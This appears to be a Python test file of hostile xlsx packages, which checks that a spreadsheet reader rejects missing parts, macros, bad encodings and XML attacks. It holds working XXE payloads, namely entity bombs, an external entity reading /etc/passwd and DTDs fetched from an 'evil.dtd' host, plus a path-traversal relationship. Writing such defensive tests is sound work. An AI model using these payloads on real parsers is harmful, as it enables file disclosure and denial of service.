"""Packages whose parts are missing, foreign, dangerous, or no good XML."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

from tests.hostile.case import GOOD, SHEET, Case, good_parts, opens, package, rows, streamed
from tests.workbook_files import (
    CONTENT_TYPES,
    MAIN,
    PACKAGE,
    RELATIONS,
    relations,
    workbook_part,
    write_package,
)

_TYPES, _WORKBOOK, _STRINGS = "[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml"
_WORKBOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
_BILLION_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)).replace("&a0;", "&a;")
    + "]>"
)
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
_FILE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_NETWORK = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd"> %a;]>'


def before(start: str, part: str = SHEET):
    """Something before the root of a part."""
    return package({part: start + str(good_parts()[part])})


def strings(xml: str):
    """A shared text in A2, with this as the part of shared texts."""
    return rows('<row r="2"><c r="A2" t="s"><v>0</v></c></row>', strings=xml)


def typed(content_type: str) -> str:
    """The content types of a good workbook and one more."""
    return CONTENT_TYPES.replace(
        "</Types>", f'<Override PartName="/a.xml" ContentType="{content_type}"/></Types>'
    )


def retyped(kind: str) -> str:
    return CONTENT_TYPES.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main", kind
    )


def letter() -> dict[str, str]:
    """What a .docx holds."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return {
        _TYPES: f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/w.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": relations(("officeDocument", "w.xml")),
        "w.xml": "<document/>",
    }


def open_document() -> dict[str, str]:
    """What an .ods holds."""
    return {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<office/>"}


def only(parts: dict[str, str]):
    """A package of these parts and no other."""
    return lambda path: write_package(path, parts)


def deep(levels: int) -> Iterator[bytes]:
    yield GOOD.removesuffix("</worksheet>").encode()
    for _ in range(levels // 1000):
        yield b"<a>" * 1000
    for _ in range(levels // 1000):
        yield b"</a>" * 1000
    yield b"</worksheet>"


def one_long_comment() -> Iterator[bytes]:
    """One token of 120 MB, which a parser that begins anew with each piece reads many times."""
    random = Random(3)
    yield b"<!--"
    for _ in range(120 * 16):
        yield b"x" * 65_000
        yield random.randbytes(700).hex().encode()
    yield b"-->" + GOOD.encode()


_MANY_ATTRIBUTES = " ".join(f'a{number}="1"' for number in range(100_000))
_MANY_NAMESPACES = " ".join(f'xmlns:n{number}="urn:{number}"' for number in range(20_000))
_MANY_SHEETS = "".join(f'<sheet name="a{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 50_000))
_MANY_STYLES = f'<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 100_000}</cellXfs></styleSheet>'
_LONG_FORMAT = f'<numFmts><numFmt numFmtId="164" formatCode="{"[" * 900_000}"/></numFmts>'

CASES = {
    "another-zip": Case(only({"a.txt": "x"}), "not_xlsx"),
    "letter-named-xlsx": Case(only(letter()), "not_xlsx"),
    "open-document-named-xlsx": Case(only(open_document()), "not_xlsx"),
    "template-named-xlsx": Case(
        package({_TYPES: CONTENT_TYPES.replace("sheet.main", "template.main")}), "not_xlsx"
    ),
    "without-content-types": Case(package(without=_TYPES), "not_xlsx"),
    "without-workbook": Case(package(without=_WORKBOOK), "broken"),
    "without-relations": Case(package(without="_rels/.rels"), "broken"),
    "without-sheet": Case(package(without=SHEET), "broken"),
    "without-sheet-relations": Case(package(without=_WORKBOOK_RELATIONS), "broken"),
    "without-shared-texts": Case(rows('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), "broken"),
    "relations-to-nothing": Case(package({"_rels/.rels": "<Relationships/>"}), "broken"),
    "relation-to-a-file": Case(
        package({_WORKBOOK_RELATIONS: relations(("worksheet", "../../../../etc/passwd"))}), "broken"
    ),
    "relation-to-an-address": Case(
        package(
            {
                _WORKBOOK_RELATIONS: relations(("worksheet", "http://192.0.2.1/a.xml")).replace(
                    "Target=", 'TargetMode="External" Target='
                )
            }
        ),
        "no_sheet",
    ),
    "sheets-in-one-part": Case(
        package(
            {
                _WORKBOOK: f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>{_MANY_SHEETS}</sheets></workbook>'
            }
        ),
        "broken",
    ),
    "visual-basic": Case(package({"xl/vbaProject.bin": "x"}), "macro"),
    "visual-basic-by-type": Case(package({_TYPES: typed("application/vnd.ms-office.vbaProject")}), "macro"),
    "macros-by-type": Case(
        package({_TYPES: retyped("application/vnd.ms-excel.sheet.macroEnabled.main")}), "macro"
    ),
    "macros-of-excel-4": Case(package({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "macros-of-excel-4-by-type": Case(
        package({_TYPES: typed("application/vnd.ms-excel.intlmacrosheet+xml")}), "macro"
    ),
    "activex": Case(package({"xl/activeX/activeX1.bin": "x"}), "macro", "ActiveX"),
    "binary-named-xlsx": Case(
        package({_TYPES: retyped("application/vnd.ms-excel.sheet.binary.macroless.main")}), "binary_workbook"
    ),
    "doctype-in-the-sheet": Case(before("<!DOCTYPE worksheet>"), "doctype"),
    "doctype-far-away": Case(before(_NETWORK), "doctype"),
    "entity-bomb": Case(before(_BILLION_LAUGHS), "doctype"),
    "entity-bomb-quadratic": Case(before(_QUADRATIC), "doctype"),
    "entity-of-a-file": Case(before(_FILE, _WORKBOOK), "doctype"),
    "entity-of-a-parameter": Case(before(_PARAMETER, _WORKBOOK_RELATIONS), "doctype"),
    "entity-in-shared-texts": Case(
        strings(f'{_FILE}<sst xmlns="{MAIN}"><si><t>&a;</t></si></sst>'), "doctype"
    ),
    "entity-in-content-types": Case(before(_FILE, _TYPES), "doctype"),
    "entity-in-utf-16": Case(package({SHEET: (_FILE + GOOD).encode("utf-16")}), "doctype"),
    "entity-in-a-part-nobody-reads": Case(package({"docProps/app.xml": _FILE + "<a>&a;</a>"}), "doctype"),
    "entity-unknown": Case(package({SHEET: GOOD.replace("王小明", "&a;")}), "broken"),
    "xml-cut": Case(package({SHEET: GOOD[:-30]}), "broken"),
    "xml-not-closed": Case(package({_TYPES: "<Types"}), "broken"),
    "xml-of-half-a-character": Case(package({SHEET: b"\xff\xfe\x00"}), "broken"),
    "xml-of-wrong-bytes": Case(package({SHEET: GOOD.encode().replace("王".encode(), b"\xff\xff")}), "broken"),
    "xml-in-big5": Case(before('<?xml version="1.0" encoding="big5"?>'), "broken"),
    "xml-in-no-encoding": Case(before('<?xml version="1.0" encoding="no-such"?>'), "broken"),
    "xml-in-utf-32": Case(package({SHEET: GOOD.encode("utf-32")}), "broken"),
    "xml-in-utf-7": Case(package({SHEET: GOOD.encode("utf-7")}), "no_header_row"),
    "xml-of-a-program": Case(package({SHEET: b"\x7fELF" + bytes(600)}), "broken"),
    "xml-with-nul": Case(package({SHEET: GOOD.replace("王", "\0")}), "broken"),
    "xml-with-half-a-pair": Case(package({SHEET: GOOD.replace("王小明", "&#xD800;")}), "broken"),
    "xml-with-doubled-attribute": Case(
        package({SHEET: GOOD.replace('<row r="2"', '<row r="2" r="3"')}), "broken"
    ),
    "xml-with-unknown-prefix": Case(package({SHEET: GOOD.replace("<row ", "<y:row ", 1)}), "broken"),
    "xml-with-one-long-token": Case(streamed(SHEET, one_long_comment), "too_slow"),
    "xml-in-utf-16": opens(package({SHEET: GOOD.encode("utf-16")})),
    "xml-with-mark": opens(package({SHEET: GOOD.encode("utf-8-sig")})),
    "xml-with-instructions": opens(before('<?xml-stylesheet href="http://192.0.2.1/"?><?php exit ?>')),
    "xml-very-deep": opens(streamed(SHEET, lambda: deep(100_000))),
    "xml-of-attributes": opens(
        package({SHEET: GOOD.replace("<sheetData", f"<sheetData {_MANY_ATTRIBUTES}")})
    ),
    "xml-of-namespaces": opens(
        package({SHEET: GOOD.replace("<sheetData", f"<sheetData {_MANY_NAMESPACES}")})
    ),
    "shared-texts-four-billion-promised": opens(
        strings(f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295"><si><t>王</t></si></sst>')
    ),
    "shared-text-cut": Case(strings(f'<sst xmlns="{MAIN}"><si><t>王'), "broken"),
    "styles-cut": Case(rows("", styles="<styleSheet"), "broken"),
    "styles-without-end": opens(package(styles=_MANY_STYLES)),
    "number-format-without-end": opens(
        package(styles=f'<styleSheet xmlns="{MAIN}">{_LONG_FORMAT}</styleSheet>')
    ),
    "title-of-control-characters": opens(package(workbook=workbook_part(["_xD800__x0000_&#9;名冊"]))),
}
